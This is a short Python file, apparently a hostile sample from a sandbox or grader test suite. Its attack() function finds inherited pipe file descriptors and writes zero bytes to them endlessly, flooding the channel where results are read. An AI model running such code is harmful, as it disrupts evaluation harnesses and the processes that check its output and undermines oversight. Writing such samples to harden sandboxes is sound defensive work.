"""Writes for ever where answers go."""

import contextlib
import os
import stat


def attack():
    pipes = []
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                pipes.append(descriptor)
    while True:
        for pipe in pipes:
            os.write(pipe, bytes(1 << 16))
